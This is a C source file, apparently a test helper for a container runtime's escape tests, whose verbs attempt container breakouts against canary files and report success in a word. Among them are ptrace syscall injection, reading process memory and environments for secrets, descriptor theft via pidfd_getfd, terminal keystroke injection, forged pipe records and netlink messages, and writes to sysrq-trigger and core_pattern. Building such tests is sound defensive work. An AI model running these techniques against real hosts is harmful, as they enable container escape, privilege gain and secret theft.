/* SPDX-License-Identifier: ISC
 *
 * escape: the attacks of escapes.t that shell cannot express. One static program,
 * used inside and outside of a container; see verbs[] at the end. An attack that
 * gets out says so in a word; silence is the good answer.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/rtnetlink.h>
#include <poll.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <termios.h>
#include <unistd.h>

#define UP "../../../../../../../../../../../.." /* deeper than any test directory */
#define FDS 40 /* descriptors that are tried */
#define PROC_MAGIC 0x9fa0
/* Calls from 424 on have the same numbers on all machines, but for an offset on mips. */
#define NR(n) ((n) + SYS_openat2 - 437)

static _Noreturn void
die(const char *what)
{
	fprintf(stderr, "escape: %s: %s\n", what, strerror(errno));
	exit(99);
}

static void
say(const char *what)
{
	puts(what);
	fflush(stdout);
}

static void
run(char **argv)
{
	execvp(argv[0], argv);
	die(argv[0]);
}

/* Reads a file, returns its length; silently 0 if it cannot be read. */
static size_t
slurp(const char *path, char *buf, size_t size)
{
	int fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	ssize_t n = fd < 0 ? 0 : read(fd, buf, size - 1);

	if (fd >= 0)
		close(fd);
	buf[n > 0 ? n : 0] = 0;
	return n > 0 ? n : 0;
}

/* --- what a process has that the container does not have ------------------- */

/* A number in /proc/PID/status, by its whole name at the start of a line. */
static unsigned long long
status_num(const char *text, const char *name, int base)
{
	size_t len = strlen(name);

	for (; text; text = strchr(text, '\n') ? strchr(text, '\n') + 1 : 0)
		if (!strncmp(text, name, len) && text[len] == ':')
			return strtoull(text + len + 1, 0, base);
	return 0;
}

/* Capabilities above our own bounding set, no filter where we have one. */
static void
check_status(int pid)
{
	static const char *const sets[] = { "CapInh", "CapPrm", "CapEff", "CapAmb",
	    "CapBnd" };
	char path[64], text[8192], own[8192];
	unsigned long long bound;
	size_t i;

	slurp("/proc/self/status", own, sizeof own);
	snprintf(path, sizeof path, "/proc/%d/status", pid);
	if (!slurp(path, text, sizeof text))
		return;
	bound = status_num(own, "CapBnd", 16);
	for (i = 0; i < sizeof sets / sizeof *sets; i++)
		if (status_num(text, sets[i], 16) & ~bound)
			say("more capabilities");
	if (status_num(own, "Seccomp", 10) && !status_num(text, "Seccomp", 10))
		say("no filter");
	if (status_num(own, "NoNewPrivs", 10) && !status_num(text, "NoNewPrivs", 10))
		say("new privileges");
}

static void
check_namespaces(int pid)
{
	static const char *const kinds[] = { "mnt", "pid", "net", "uts", "ipc", "cgroup" };
	char path[64];
	struct stat a, b;
	size_t i;

	for (i = 0; i < sizeof kinds / sizeof *kinds; i++) {
		snprintf(path, sizeof path, "/proc/%d/ns/%s", pid, kinds[i]);
		if (stat(path, &a))
			continue;
		snprintf(path, sizeof path, "/proc/self/ns/%s", kinds[i]);
		if (stat(path, &b) == 0 && (a.st_ino != b.st_ino || a.st_dev != b.st_dev))
			printf("another %s namespace\n", kinds[i]);
	}
	fflush(stdout);
}

/* Does this link in /proc lead to a pipe, or to a file that we have as well? */
static int
is_ours(const char *path)
{
	struct stat a, b;
	char to[256];
	ssize_t n = readlink(path, to, sizeof to - 1);

	to[n > 0 ? n : 0] = 0;
	if (n <= 0 || !strncmp(to, "pipe:", 5) || !strncmp(to, "socket:", 7) ||
	    stat(path, &a) || (stat(to, &b) == 0 && a.st_dev == b.st_dev &&
	    a.st_ino == b.st_ino))
		return 1;
	printf("descriptor: %s\n", to);
	return 0;
}

/* Checks its links in /proc: root, directory and each descriptor, as a way to
 * canary and for where they lead. */
static void
check_links(int pid, const char *canary)
{
	static const char *const ways[] = { "root", "cwd" };
	char path[512];
	size_t i;
	int fd;

	for (i = 0; i < 2; i++) {
		snprintf(path, sizeof path, "/proc/%d/%s%s", pid, ways[i], canary);
		if (access(path, F_OK) == 0)
			say(ways[i]);
		snprintf(path, sizeof path, "/proc/%d/%s/" UP "%s", pid, ways[i], canary);
		if (access(path, F_OK) == 0)
			say(ways[i]);
	}
	for (fd = 3; fd < FDS; fd++) {
		snprintf(path, sizeof path, "/proc/%d/fd/%d/" UP "%s", pid, fd, canary);
		if (access(path, F_OK) == 0)
			say("a descriptor that leads out");
		snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
		is_ours(path);
	}
	fflush(stdout);
}

/* The tests put a SECRET into ct's environment and into an argument used outside. */
static void
check_words(int pid)
{
	static const char *const files[] = { "environ", "cmdline" };
	static char text[1 << 17];
	char path[64];
	size_t i, n;

	for (i = 0; i < 2; i++) {
		snprintf(path, sizeof path, "/proc/%d/%s", pid, files[i]);
		n = slurp(path, text, sizeof text);
		if (n && memmem(text, n, "SECRET", 6))
			say(files[i]);
	}
}

/* The same, anywhere in its memory. */
static void
check_memory(int pid)
{
	static char maps[1 << 16], page[1 << 16];
	unsigned long at, end;
	char path[64], *line;
	ssize_t n;
	int fd;

	snprintf(path, sizeof path, "/proc/%d/maps", pid);
	slurp(path, maps, sizeof maps);
	snprintf(path, sizeof path, "/proc/%d/mem", pid);
	if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0)
		return;
	for (line = strtok(maps, "\n"); line; line = strtok(0, "\n")) {
		if (sscanf(line, "%lx-%lx rw", &at, &end) != 2 || !strstr(line, " rw"))
			continue;
		for (; at < end && (n = pread(fd, page, sizeof page < end - at ?
		    sizeof page : end - at, (off_t)at)) > 0; at += (unsigned long)n)
			if (memmem(page, (size_t)n, "SECRET", 6))
				say("memory");
	}
	close(fd);
}

/* Tries a copy of each descriptor, which ptrace(2) rights permit. */
static void
check_getfd(int pid, const char *canary)
{
	int pidfd = (int)syscall(NR(434), pid, 0), fd, copy;
	char path[512];

	snprintf(path, sizeof path, UP "%s", canary);
	for (fd = 0; pidfd >= 0 && fd < FDS; fd++) {
		if ((copy = (int)syscall(NR(438), pidfd, fd, 0)) < 0)
			continue;
		if (faccessat(copy, path, F_OK, 0) == 0)
			say("a descriptor that was taken leads out");
		close(copy);
	}
	if (pidfd >= 0)
		close(pidfd);
}

/* look CANARY: what each process here has from the host */
static void
v_look(char **argv)
{
	DIR *d = opendir("/proc");
	struct dirent *e;
	int pid;

	while (d && (e = readdir(d))) {
		if ((pid = atoi(e->d_name)) <= 0 || pid == getpid())
			continue;
		check_links(pid, argv[0]);
		check_words(pid);
		check_memory(pid);
		check_getfd(pid, argv[0]);
		check_status(pid);
		check_namespaces(pid);
	}
	if (d)
		closedir(d);
}

/* --- a peer that traces each new process ------------------------------------ */

#ifdef __x86_64__
/* Makes a stopped process do a system call; text, if any, is at text_at. */
static long
inject(int pid, long nr, const long a[5])
{
	struct user_regs_struct was, regs;
	long word, r = -1;

	if (ptrace(PTRACE_GETREGS, pid, 0, &was) < 0)
		return -1;
	regs = was;
	errno = 0;
	word = ptrace(PTRACE_PEEKTEXT, pid, (void *)was.rip, 0);
	if (errno || ptrace(PTRACE_POKETEXT, pid, (void *)was.rip,
	    (void *)((word & ~0xffffl) | 0x050f)) < 0)
		return -1;
	regs.orig_rax = -1; /* no call is restarted */
	regs.rax = nr;
	regs.rdi = a[0];
	regs.rsi = a[1];
	regs.rdx = a[2];
	regs.r10 = a[3];
	regs.r8 = a[4];
	if (ptrace(PTRACE_SETREGS, pid, 0, &regs) == 0 &&
	    ptrace(PTRACE_SINGLESTEP, pid, 0, 0) == 0 &&
	    waitpid(pid, 0, __WALL) == pid && ptrace(PTRACE_GETREGS, pid, 0, &regs) == 0)
		r = (long)regs.rax;
	ptrace(PTRACE_POKETEXT, pid, (void *)was.rip, (void *)word);
	ptrace(PTRACE_SETREGS, pid, 0, &was);
	return r;
}

/* Puts a string below its stack; returns where. */
static long
inject_text(int pid, const char *text)
{
	struct user_regs_struct regs;
	char buf[512] = "";
	size_t i;
	long at, word;

	if (ptrace(PTRACE_GETREGS, pid, 0, &regs) < 0)
		return 0;
	at = (long)((regs.rsp - 2048) & ~15ull);
	snprintf(buf, sizeof buf, "%s", text);
	for (i = 0; i < strlen(buf) + 1; i += sizeof word) {
		memcpy(&word, buf + i, sizeof word);
		ptrace(PTRACE_POKEDATA, pid, (void *)(at + (long)i), (void *)word);
	}
	return at;
}

/* What the container cannot do, but the process still can when made to. */
static void
check_calls(int pid, const char *canary)
{
	char path[512];
	long at = inject_text(pid, canary), fd;

	if (!at)
		return;
	if (inject(pid, SYS_access, (long[5]){ at, F_OK }) == 0)
		say("it sees the host's files");
	snprintf(path, sizeof path, UP "%s", canary);
	at = inject_text(pid, path);
	for (fd = 3; fd < 24; fd++)
		if (inject(pid, SYS_faccessat, (long[5]){ fd, at, F_OK }) == 0)
			say("its descriptors lead out");
	at = inject_text(pid, "/tmp/escape-node");
	if (inject(pid, SYS_mknod, (long[5]){ at, S_IFCHR | 0600,
	    (long)makedev(1, 1) }) == 0) {
		inject(pid, SYS_unlink, (long[5]){ at });
		say("it makes devices");
	}
	if (inject(pid, SYS_keyctl, (long[5]){ 0, -3, 0 }) >= 0)
		say("it has keys");
	if (inject(pid, SYS_unshare, (long[5]){ CLONE_NEWNS }) == 0)
		say("it makes mount namespaces");
	if (inject(pid, SYS_unshare, (long[5]){ CLONE_NEWUSER }) == 0)
		say("it makes user namespaces");
}
#else
static void
check_calls(int pid, const char *canary)
{
	(void)pid;
	(void)canary;
}
#endif

/* Waits for our own SIGSTOP: the SIGTRAP of its execve(2) may come first, and a process
 * detached then would stay stopped forever by the SIGSTOP. */
static int
attach(int pid)
{
	int st;

	if (ptrace(PTRACE_ATTACH, pid, 0, 0) < 0)
		return -1;
	while (waitpid(pid, &st, __WALL) == pid && WIFSTOPPED(st)) {
		if (WSTOPSIG(st) == SIGSTOP)
			return 0;
		ptrace(PTRACE_CONT, pid, 0, WSTOPSIG(st) == SIGTRAP ? 0 : WSTOPSIG(st));
	}
	return -1;
}

/* thief CANARY [joined]: takes what each new process has, and makes it act for us.
 * Runs forever. */
static void
v_thief(char **argv)
{
	pid_t seen = getpid(), pid;
	char path[64];
	int k;

	say("up");
	for (;;)
		for (pid = seen + 1; pid < seen + 16; pid++) {
			snprintf(path, sizeof path, "/proc/%d/stat", (int)pid);
			if (access(path, F_OK))
				continue;
			for (k = 0; k < 6; k++) {
				check_links(pid, argv[0]);
				check_words(pid);
				check_getfd(pid, argv[0]);
				if (attach(pid) < 0)
					continue;
				if (k == 0)
					check_memory(pid);
				check_status(pid);
				if (!argv[1]) /* a process that joins has some of its own */
					check_namespaces(pid);
				check_calls(pid, argv[0]);
				ptrace(PTRACE_DETACH, pid, 0, 0);
			}
			seen = pid;
		}
}

/* As in ct: what its child reports on the pipe. */
struct rec {
	int kind;
	unsigned usec;
	int pid, no, status;
	char step[24], text[300], hint[120];
};

/* liar PID: writes to the pipes of each new process what ct might believe: that
 * PID is the command, and that it failed with a text that sets the title of a
 * terminal; then kills the process or not, so that ct goes on with PID, and keeps
 * the pipe open, so that ct waits for its end. Runs forever. */
static void
v_liar(char **argv)
{
	struct rec rec = { .usec = 7, .pid = atoi(argv[0]), .no = EPERM, .status = 42,
	    .step = "\033]0;TITLE\a", .text = "\033]0;TITLE\a\n", .hint = "\033c" };
	pid_t seen = getpid(), pid;
	char path[64], to[64];
	ssize_t n;
	int fd, w;

	say("up");
	for (;;)
		for (pid = seen + 1; pid < seen + 16; pid++)
			for (fd = 3; fd < FDS; fd++) {
				snprintf(path, sizeof path, "/proc/%d/fd/%d", (int)pid, fd);
				n = readlink(path, to, sizeof to - 1);
				if (n < 5 || strncmp(to, "pipe:", 5) ||
				    (w = open(path, O_WRONLY | O_NONBLOCK | O_CLOEXEC)) < 0)
					continue;
				for (rec.kind = 6; rec.kind >= 0; rec.kind--)
					if (write(w, &rec, sizeof rec) != sizeof rec)
						break;
				if (pid % 2)
					kill(pid, SIGKILL);
				seen = pid;
			}
}

/* overwrite: opens the program of each new process, makes its mount writable, and
 * tries to change all that it has opened. Runs forever; the root has to be
 * read-only. */
static void
v_overwrite(char **argv)
{
	const struct { uint64_t set, clear, more[2]; } rw = { .clear = MS_RDONLY };
	pid_t seen = getpid(), pid;
	int fds[16], next = 0, i, fd, w;
	char path[64];

	(void)argv;
	memset(fds, -1, sizeof fds);
	say("up");
	for (;;) {
		for (pid = seen + 1; pid < seen + 16; pid++) {
			snprintf(path, sizeof path, "/proc/%d/exe", (int)pid);
			if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0)
				continue;
			syscall(NR(442), fd, "", AT_EMPTY_PATH, &rw, sizeof rw);
			if (fds[next % 16] >= 0)
				close(fds[next % 16]);
			fds[next++ % 16] = fd;
			seen = pid;
		}
		for (i = 0; i < 16 && fds[i] >= 0; i++) {
			snprintf(path, sizeof path, "/proc/self/fd/%d", fds[i]);
			if ((w = open(path, O_WRONLY | O_CLOEXEC)) >= 0) {
				if (write(w, "hacked", 6) == 6)
					say("WRITTEN");
				close(w);
			}
			if (truncate(path, 0) == 0 || chmod(path, 06777) == 0 ||
			    setxattr(path, "user.hacked", "1", 1, 0) == 0)
				say("CHANGED");
		}
	}
}

/* --- terminals --------------------------------------------------------------- */

/* tty CMD...: runs CMD on its own terminal, passes on what it prints, and says
 * whether input appeared there that nobody typed */
static void
v_tty(char **argv)
{
	int m = posix_openpt(O_RDWR | O_NOCTTY | O_CLOEXEC), s, w = 0, n = 0;
	struct termios t;
	char buf[512];
	ssize_t len;
	pid_t pid;

	if (m < 0 || grantpt(m) || unlockpt(m) ||
	    (s = open(ptsname(m), O_RDWR | O_NOCTTY | O_CLOEXEC)) < 0 || tcgetattr(s, &t))
		die("pty");
	cfmakeraw(&t); /* so that input arrives without a newline */
	tcsetattr(s, TCSANOW, &t);
	if ((pid = fork()) == 0) {
		setsid();
		ioctl(s, TIOCSCTTY, 0);
		dup2(s, 0);
		dup2(s, 1);
		dup2(s, 2);
		run(argv);
	}
	fcntl(m, F_SETFL, O_NONBLOCK);
	while (waitpid(pid, &w, WNOHANG) == 0)
		usleep(1000);
	while ((len = read(m, buf, sizeof buf)) > 0)
		if (write(1, buf, len) != len)
			break;
	ioctl(s, FIONREAD, &n);
	if (n > 0)
		say("TYPED");
	exit(WIFEXITED(w) ? WEXITSTATUS(w) : 128 + WTERMSIG(w));
}

/* type: types on the terminal on standard input, in every known way */
static void
v_type(char **argv)
{
	unsigned long high = 1ul << (sizeof high * 8 - 8);
	struct { char sub; short v[5]; } __attribute__((packed)) sel = { 2, { 1, 1, 80, 24, 2 } };
	char c = 'x', paste = 3;

	(void)argv;
	syscall(SYS_ioctl, 0, TIOCSTI, &c);
	syscall(SYS_ioctl, 0, TIOCSTI | high, &c);
	syscall(SYS_ioctl, 0, TIOCLINUX, &sel);
	syscall(SYS_ioctl, 0, TIOCLINUX, &paste);
	syscall(SYS_ioctl, 0, TIOCLINUX | high, &paste);
	setsid();
	syscall(SYS_ioctl, 0, TIOCSCTTY, 1); /* steals it if it can */
	syscall(SYS_ioctl, 0, TIOCSTI, &c);
}

/* --- the kernel ------------------------------------------------------------- */

#ifdef __x86_64__
/* socketcall(2) of i386; its arguments have to lie below 4 GiB, as everything in a
 * static non-PIE program does. */
static int
socketcall(int family, int type)
{
	static uint32_t args[3];
	long r;

	args[0] = (uint32_t)family;
	args[1] = (uint32_t)type;
	__asm__ volatile("int $0x80" : "=a"(r) : "a"(102), "b"(1),
	    "c"((uint32_t)(uintptr_t)args) : "r8", "r9", "r10", "r11", "memory");
	return (int)r;
}
#elif defined SYS_socketcall
static int
socketcall(int family, int type)
{
	long args[3] = { family, type, 0 };

	return (int)syscall(SYS_socketcall, 1, args);
}
#else
static int
socketcall(int family, int type)
{
	(void)family;
	(void)type;
	errno = ENOSYS;
	return -1;
}
#endif

/* A flag unknown to socket(2): EINVAL means that the call reached the kernel, whether
 * it has the family or not, and any other error that it did not. */
#define NO_TYPE (1 << 20 | SOCK_DGRAM)

/* Says of a protocol that the kernel is asked for it, but for those that are needed. */
static void
protocol(int n, int type)
{
	static const char ip[600] = { [0] = 1, [IPPROTO_TCP] = 1, [IPPROTO_UDP] = 1, [262] = 1 };
	static const char netlink[] = { 1, 0, 1, 0, 1, 0, 0, 1, 0, 0, 1, 1, 0, 0, 0, 1 };
	const int odd = type | 1 << 20;

	if (type != SOCK_RAW && (type > SOCK_RAW || (!ip[n] && n != IPPROTO_ICMP)) &&
	    (socket(AF_INET, odd, n) >= 0 || errno == EINVAL))
		printf("IPv4 %d of type %d\n", n, type);
	if (type != SOCK_RAW && (type > SOCK_RAW || (!ip[n] && n != IPPROTO_ICMPV6)) &&
	    (socket(AF_INET6, odd, n) >= 0 || errno == EINVAL))
		printf("IPv6 %d of type %d\n", n, type);
	if ((n >= (int)sizeof netlink || !netlink[n]) &&
	    (socket(AF_NETLINK, odd, n) >= 0 || errno == EINVAL))
		printf("netlink %d\n", n);
}

/* families: those that no filter keeps from the kernel, except the ones that a
 * container needs. A packet socket needs a capability: does it work? */
static void
v_families(char **argv)
{
	static const char needed[64] = { [AF_UNIX] = 1, [AF_INET] = 1, [AF_INET6] = 1,
	    [AF_NETLINK] = 1, [AF_PACKET] = 1 };
	int family, pair[2], w;
	pid_t pid;

	(void)argv;
	if (socket(AF_PACKET, SOCK_RAW, 0) >= 0)
		puts("packet");
	for (family = 0; family < 600; family++)
		for (int type = 1; type < 7; type++)
			protocol(family, type);
	for (family = 0; family < 64; family++) {
		if (needed[family])
			continue;
		if (socket(family, NO_TYPE, 0) >= 0 || errno == EINVAL)
			printf("%d\n", family);
		if (socketpair(family, NO_TYPE, 0, pair) == 0 || errno == EINVAL)
			printf("%d as a pair\n", family);
		fflush(stdout);
		if ((pid = fork()) == 0) { /* the attempt may be fatal */
			w = socketcall(family, NO_TYPE);
			_exit(w >= 0 || w == -EINVAL || (w == -1 && errno == EINVAL));
		}
		waitpid(pid, &w, 0);
		if (w && WIFEXITED(w))
			printf("%d by socketcall\n", family);
	}
}

/* groups N: joins so many multicast groups on the second interface, as fast as the bridge
 * gets to know of them */
static void
v_groups(char **argv)
{
	struct ip_mreqn m = { .imr_ifindex = 2 };
	int n, s = -1;

	for (n = 0; n < atoi(argv[0]); n++) {
		if (n % 20 == 0 && (s = socket(AF_INET, SOCK_DGRAM, 0)) < 0)
			break;          /* a socket has at most 20 */
		m.imr_multiaddr.s_addr = htonl(0xefd00000U + (unsigned)n);
		if (setsockopt(s, IPPROTO_IP, IP_ADD_MEMBERSHIP, &m, sizeof m) < 0)
			break;
	}
	printf("%d\n", n);
	fflush(stdout);
	sleep(5);
}

/* calls: the new mount calls, and calls that do not exist yet: prints those that are
 * neither refused nor unknown */
static void
v_calls(char **argv)
{
	static const short nrs[] = { 428, 429, 430, 431, 432, 433, 442, 457, 458 };
	size_t i;
	int nr;

	(void)argv;
	for (i = 0; i < sizeof nrs / sizeof *nrs; i++)
		if (syscall(NR(nrs[i]), -1, 0, -1, -1, -1, -1) >= 0 ||
		    (errno != EPERM && errno != ENOSYS))
			printf("%d: %s\n", nrs[i], strerror(errno));
	for (nr = 475; nr < 600; nr++)
		if (syscall(NR(nr), -1, 0, -1, -1, -1, -1) >= 0 || errno != ENOSYS)
			printf("%d: %s\n", nr, strerror(errno));
}

struct handle {
	unsigned bytes;
	int type;
	unsigned char f[128];
};

/* handle FILE: prints its handle, in hexadecimal */
static void
v_handle(char **argv)
{
	struct handle h = { .bytes = sizeof h.f };
	unsigned i;
	int mount;

	if (syscall(SYS_name_to_handle_at, AT_FDCWD, argv[0], &h, &mount, 0) < 0)
		die(argv[0]);
	printf("%08x%08x", h.bytes, (unsigned)h.type);
	for (i = 0; i < h.bytes; i++)
		printf("%02x", h.f[i]);
	puts("");
}

/* byhandle HEX: prints the file of that handle, wherever it is on this file system */
static void
v_byhandle(char **argv)
{
	struct handle h;
	char text[256];
	unsigned i, byte;
	ssize_t n;
	int fd, root = open("/", O_RDONLY | O_DIRECTORY);

	if (sscanf(argv[0], "%8x%8x", &h.bytes, (unsigned *)&h.type) != 2 ||
	    h.bytes > sizeof h.f)
		die(argv[0]);
	for (i = 0; i < h.bytes && sscanf(argv[0] + 16 + 2 * i, "%2x", &byte) == 1; i++)
		h.f[i] = (unsigned char)byte;
	fd = (int)syscall(SYS_open_by_handle_at, root, &h, O_RDONLY);
	n = fd < 0 ? 0 : read(fd, text, sizeof text);
	if (n > 0)
		printf("OUTSIDE %.*s", (int)n, text);
}

/* masks DIR...: what a procfs that is mounted on one of these, or will be, shows of
 * the kernel or lets be written to it */
static void
v_masks(char **argv)
{
	static const char *const files[] = { "keys", "timer_list", "kcore" };
	static const char *const closed[] = { "sysrq-trigger", "sys/kernel/core_pattern" };
	int fd = -1, f, k;
	struct statfs s;
	char c, **dir;
	size_t i;

	for (k = 0; fd < 0 && k < 1000; k++)
		for (dir = argv; *dir && fd < 0; dir++)
			if ((fd = open(*dir, O_RDONLY | O_DIRECTORY)) >= 0 &&
			    (fstatfs(fd, &s) || s.f_type != PROC_MAGIC)) {
				close(fd);
				fd = -1;
			}
	if (fd < 0)
		return;
	for (i = 0; i < 3; i++)
		if ((f = openat(fd, files[i], O_RDONLY)) >= 0 && read(f, &c, 1) == 1)
			say(files[i]);
	for (i = 0; i < 2; i++)
		if (openat(fd, closed[i], O_WRONLY) >= 0)
			say(closed[i]);
}

/* --- its cgroup --------------------------------------------------------------- */

static bool
put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);
	bool done = fd >= 0 && write(fd, text, strlen(text)) == (ssize_t)strlen(text);

	if (fd >= 0)
		close(fd);
	return done;
}

/* limits: mounts the root of its cgroup namespace, in new namespaces if need be; says
 * whether it finds the record and can forge one, and tries to lift a limit */
static void
v_limits(char **argv)
{
	char list[4096];
	ssize_t n;

	(void)argv;
	if (mount("none", "/tmp", "cgroup2", 0, 0) < 0) {
		if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) < 0)
			die("unshare");
		/* without a map it keeps its user */
		if (mount("none", "/tmp", "cgroup2", 0, 0) < 0)
			die("mount");
	}
	put("/tmp/cgroup.max.descendants", "77");
	n = listxattr("/tmp", list, sizeof list);
	if (n > 0)
		say("has the record");
	say(setxattr("/tmp", "user.ct.argv", "--privileged", 13, 0) ? "cannot set" : "sets");
}

/* --- names -------------------------------------------------------------------- */

/* comm NAME: takes that name, says so, and waits forever */
static void
v_comm(char **argv)
{
	prctl(PR_SET_NAME, argv[0]);
	say("up");
	for (;;)
		pause();
}

/* xattr FILE NAME VALUE: sets it; "|" stands for a NUL */
static void
v_xattr(char **argv)
{
	size_t i, len = strlen(argv[2]);

	for (i = 0; i < len; i++)
		if (argv[2][i] == '|')
			argv[2][i] = 0;
	if (setxattr(argv[0], argv[1], argv[2], len, 0) == 0)
		say("set");
}

static int
abstract(const char *name, int (*f)(int, const struct sockaddr *, socklen_t))
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	snprintf(a.sun_path + 1, sizeof a.sun_path - 1, "%s", name);
	if (fd < 0 || f(fd, (struct sockaddr *)&a, (socklen_t)(offsetof(struct sockaddr_un,
	    sun_path) + 1 + strlen(name))))
		return -1;
	return fd;
}

/* listen NAME: listens on that abstract socket forever */
static void
v_listen(char **argv)
{
	int fd = abstract(argv[0], bind);

	if (fd < 0 || listen(fd, 5))
		die("listen");
	say("up");
	for (;;)
		pause();
}

/* knock NAME: does anybody listen there? */
static void
v_knock(char **argv)
{
	say(abstract(argv[0], connect) < 0 ? "nobody" : "CONNECTED");
}

/* rob NAME: takes descriptors of who listens there */
static void
v_rob(char **argv)
{
	int s = abstract(argv[0], connect), fd, peer = -1;
	socklen_t len = sizeof peer;

	if (s < 0)
		die("connect");
	getsockopt(s, SOL_SOCKET, 77, &peer, &len);     /* SO_PEERPIDFD, Linux 6.5 */
	for (fd = 0; peer >= 0 && fd < FDS; fd++)
		if (syscall(NR(438), peer, fd, 0) >= 0)
			say("TAKEN");
}

/* forge: answers every other netlink socket here, in place of the kernel */
static void
v_forge(char **argv)
{
	struct {
		struct nlmsghdr h;
		struct ifinfomsg link;
		struct rtattr a;
		char name[8];
	} m = {
		.h = { .nlmsg_len = sizeof m, .nlmsg_type = RTM_NEWLINK },
		.a = { .rta_len = sizeof m.a + sizeof m.name, .rta_type = IFLA_IFNAME },
		.name = "forged",
	};
	struct sockaddr_nl to = { .nl_family = AF_NETLINK };
	int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
	char line[256];
	FILE *f;

	(void)argv;
	say("up");
	for (;; fclose(f)) {
		if (!(f = fopen("/proc/net/netlink", "r")))
			die("netlink");
		while (fgets(line, sizeof line, f))
			if (sscanf(line, "%*s %*u %u", &to.nl_pid) == 1 && to.nl_pid)
				sendto(fd, &m, sizeof m, 0, (struct sockaddr *)&to,
				       sizeof to);
	}
}

/* outside: printed by the host's program if a container gets to run it */
static void
v_outside(char **argv)
{
	(void)argv;
	say("OUTSIDE");
}

static const struct {
	const char *name;
	void (*f)(char **);
	int args;
} verbs[] = {
	{ "outside", v_outside, 0 }, { "look", v_look, 1 }, { "thief", v_thief, 1 },
	{ "liar", v_liar, 1 }, { "overwrite", v_overwrite, 0 }, { "tty", v_tty, 1 },
	{ "type", v_type, 0 }, { "families", v_families, 0 }, { "calls", v_calls, 0 },
	{ "groups", v_groups, 1 },
	{ "handle", v_handle, 1 }, { "byhandle", v_byhandle, 1 }, { "masks", v_masks, 1 },
	{ "comm", v_comm, 1 }, { "xattr", v_xattr, 3 }, { "listen", v_listen, 1 },
	{ "knock", v_knock, 1 }, { "rob", v_rob, 1 }, { "limits", v_limits, 0 },
	{ "forge", v_forge, 0 },
};

int
main(int argc, char **argv)
{
	size_t i;

	for (i = 0; argc > 1 && i < sizeof verbs / sizeof *verbs; i++)
		if (!strcmp(argv[1], verbs[i].name) && argc - 2 >= verbs[i].args) {
			verbs[i].f(argv + 2);
			return 0;
		}
	fprintf(stderr, "usage: escape VERB [argument ...]\n");
	return 99;
}
